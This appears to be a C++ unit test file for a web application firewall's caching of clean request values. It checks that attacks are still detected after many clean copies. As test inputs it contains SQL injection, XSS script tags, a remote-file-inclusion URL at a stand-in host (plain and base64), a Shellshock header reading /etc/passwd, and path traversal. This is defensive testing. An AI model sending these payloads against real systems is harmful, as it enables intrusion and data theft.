// The per-request memo of clean values (transaction.cc): a value seen clean before in the
// same request is skipped, but never when the place it appears in changes the answer (an
// argument name, the JSON path that RFI reads, another kind of location), and never when the
// first copy was not clean.
#include <gtest/gtest.h>

#include <string>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::all;
using testing::Request;

Verdict run(Request& r) {
  const Waf waf(all(policy::Mode::prevent));
  return waf.inspect_content(r.view());
}

TEST(WafMemo, RepeatedCleanValuesStayClean) {
  Request r;
  std::string json = "{\"items\":[";
  for (int i = 0; i < 300; ++i)
    json += std::string(i ? "," : "") + "{\"id\":" + std::to_string(i) +
            ",\"description\":\"A plain description of the item, nothing special.\"}";
  json += "]}";
  r.post("application/json", json);
  EXPECT_TRUE(run(r).allowed());
}

TEST(WafMemo, AttackAfterManyCleanCopiesIsFound) {
  Request r;
  std::string json = "{\"items\":[";
  for (int i = 0; i < 300; ++i) json += std::string(i ? "," : "") + "{\"q\":\"plain words here\"}";
  json += ",{\"q\":\"1' or '1'='1\"}]}";
  r.post("application/json", json);
  const Verdict v = run(r);
  ASSERT_FALSE(v.allowed());
  EXPECT_EQ(v.findings.front().protection, "sqli");
}

TEST(WafMemo, NameThatChangesTheAnswerIsPartOfTheKey) {
  // The same remote URL is harmless as a page link and an RFI in an include argument.
  Request q;
  q.target = "/p?link=http://evil.example/shell.txt&include=http://evil.example/shell.txt";
  const Verdict v = run(q);
  ASSERT_FALSE(v.allowed());
  EXPECT_EQ(v.findings.front().location, "query:include");
  // JSON: the path names the value; base64 is decoded and read with its name.
  Request j;
  const std::string b64 = "aHR0cDovL2V2aWwuZXhhbXBsZS9zaGVsbC50eHQ=";  // http://evil.example/shell.txt
  j.post("application/json", "{\"a\":\"" + b64 + "\",\"include\":\"" + b64 + "\"}");
  Request one;
  one.post("application/json", "{\"include\":\"" + b64 + "\"}");
  EXPECT_EQ(run(j).allowed(), run(one).allowed());
}

TEST(WafMemo, OnlyCleanResultsAreKept) {
  // Alert mode keeps inspecting: every copy is reported (up to max_findings), also the
  // copies after the memo starts (it starts after a dozen values).
  const Waf waf(all(policy::Mode::alert));
  Request alert;
  alert.target = "/s?";
  for (int i = 0; i < 20; ++i)
    alert.target += "a" + std::to_string(i) + "=%3Cscript%3Ealert(1)%3C/script%3E&";
  EXPECT_EQ(waf.inspect_content(alert.view()).findings.size(), WafOptions{}.max_findings);
}

// Header values found clean are remembered across requests of one Waf (client_tables.h).
TEST(WafCleanHeaders, RememberedOnlyWhenClean) {
  const Waf waf(testing::all(policy::Mode::prevent));
  testing::Request clean;
  clean.header("Referer", "https://app.example/page?x=1");
  for (int i = 0; i < 3; ++i) EXPECT_TRUE(waf.inspect_content(clean.view()).allowed());
  // An attack in the same header is judged on its own, every time.
  testing::Request attack;
  attack.header("Referer", "https://app.example/?q=<script>alert(1)</script>");
  for (int i = 0; i < 3; ++i) EXPECT_FALSE(waf.inspect_content(attack.view()).allowed());
  // The same value under another header name is judged under that name's checks.
  testing::Request shellshock;
  shellshock.header("X-Api-Version", "() { :; }; /bin/cat /etc/passwd");
  EXPECT_FALSE(waf.inspect_content(shellshock.view()).allowed());
  // Alert mode: a finding is reported on every request, never remembered as clean.
  const Waf alert(testing::all(policy::Mode::alert));
  for (int i = 0; i < 3; ++i) EXPECT_FALSE(alert.inspect_content(attack.view()).findings.empty());
}

// Paths share the cache: only a path found clean is remembered. An attack in a path, and an
// alert finding there, are reported on every request, and the query after a remembered path
// is still read.
TEST(WafCleanHeaders, PathsRememberedOnlyWhenClean) {
  const Waf waf(testing::all(policy::Mode::prevent));
  testing::Request clean;
  clean.target = "/static/app.js";
  for (int i = 0; i < 3; ++i) EXPECT_TRUE(waf.inspect_content(clean.view()).allowed());
  testing::Request attack;
  attack.target = "/static/..%2f..%2f..%2fetc%2fpasswd";
  for (int i = 0; i < 3; ++i) EXPECT_FALSE(waf.inspect_content(attack.view()).allowed());
  // The query is read on every request, after a remembered path.
  testing::Request query;
  query.target = "/static/app.js?v=%3Cscript%3Ealert(1)%3C/script%3E";
  EXPECT_FALSE(waf.inspect_content(query.view()).allowed());
  // Alert mode: a path finding is reported on every request.
  const Waf alert(testing::all(policy::Mode::alert));
  for (int i = 0; i < 3; ++i) EXPECT_FALSE(alert.inspect_content(attack.view()).findings.empty());
}

TEST(WafCleanHeaders, BoundedAndCollisionSafe) {
  CleanHeaderCache cache(16, 64);
  for (int i = 0; i < 1000; ++i) cache.insert("user-agent", "agent " + std::to_string(i));
  EXPECT_TRUE(cache.contains("user-agent", "agent 999"));
  EXPECT_FALSE(cache.contains("referer", "agent 999"));
  EXPECT_FALSE(cache.contains("user-agent", "agent 1000"));
  cache.insert("user-agent", std::string(100, 'a'));  // longer than max_bytes: not kept
  EXPECT_FALSE(cache.contains("user-agent", std::string(100, 'a')));
}

// Past max_findings an alert is no longer kept, but the value is still not clean: a later
// request with the same header must report it.
TEST(WafCleanHeaders, AlertPastMaxFindingsIsNotRememberedClean) {
  const Waf alert(testing::all(policy::Mode::alert));
  testing::Request many;
  many.target = "/s?";
  for (int i = 0; i < 12; ++i) many.target += "a" + std::to_string(i) + "=%3Cscript%3Ealert(1)%3C/script%3E&";
  many.header("Referer", "https://app.example/?q=<script>alert(2)</script>");
  EXPECT_EQ(alert.inspect_content(many.view()).findings.size(), WafOptions{}.max_findings);
  testing::Request one;
  one.header("Referer", "https://app.example/?q=<script>alert(2)</script>");
  EXPECT_FALSE(alert.inspect_content(one.view()).findings.empty());
}

}  // namespace
}  // namespace defender::cnaf::waf
